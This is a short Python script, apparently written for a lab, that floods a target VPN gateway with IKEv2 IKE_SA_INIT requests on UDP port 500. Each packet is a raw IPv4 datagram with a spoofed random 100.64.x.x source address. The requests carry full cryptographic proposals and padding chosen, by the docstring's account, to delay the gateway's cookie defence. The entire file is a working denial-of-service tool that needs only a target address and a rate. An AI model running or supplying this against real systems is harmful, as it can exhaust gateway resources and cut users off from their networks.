"""Sends IKE_SA_INIT to one address, each as if from another stranger, until it is ended: `python3 strangers.py ADDRESS PER-SECOND`."""

from __future__ import annotations

import random
import socket
import struct
import sys
import time

FROM = "100.64"  # RFC 6598: nobody in the lab has these


def request(spi: int) -> bytes:
    """What any end would begin to answer: AES-GCM-16-256, PRF_HMAC_SHA2_384, Curve25519 (RFC 7296 §3). A Vendor ID makes it longer than
    the answer: else the gateway would want a cookie from each at once."""
    transforms = [(1, 20, struct.pack("!HH", 0x800E, 256)), (2, 6, b""), (4, 31, b"")]
    body = b"".join(struct.pack("!BBHBBH", 0 if place == 2 else 3, 0, 8 + len(attributes), kind, 0, number) + attributes
                    for place, (kind, number, attributes) in enumerate(transforms))
    proposal = struct.pack("!BBHBBBB", 0, 0, 8 + len(body), 1, 1, 0, 3) + body
    key = struct.pack("!HH", 31, 0) + random.randbytes(32)
    payloads = b"".join(struct.pack("!BBH", following, 0, 4 + len(one)) + one
                        for following, one in ((34, proposal), (40, key), (43, random.randbytes(32)), (0, random.randbytes(200))))
    return struct.pack("!QQBBBBII", spi, 0, 33, 0x20, 34, 0x08, 0, 28 + len(payloads)) + payloads


def packet(source: str, target: str, payload: bytes) -> bytes:
    """IPv4 and UDP around it. The kernel fills in length and checksum of the one; the other may go without (RFC 768)."""
    udp = struct.pack("!HHHH", 500, 500, 8 + len(payload), 0) + payload
    addresses = socket.inet_aton(source) + socket.inet_aton(target)
    return struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(udp), 0, 0, 64, socket.IPPROTO_UDP, 0) + addresses + udp


def send(target: str, rate: int) -> None:
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sent = 0
    while True:
        source = f"{FROM}.{random.randrange(256)}.{random.randrange(1, 255)}"
        raw.sendto(packet(source, target, request(random.getrandbits(64) | 1)), (target, 0))
        sent += 1
        if sent % rate == 0:
            print(f"{sent} IKE_SA_INIT from strangers")
        time.sleep(1 / rate)


if __name__ == "__main__":
    send(sys.argv[1], int(sys.argv[2]))
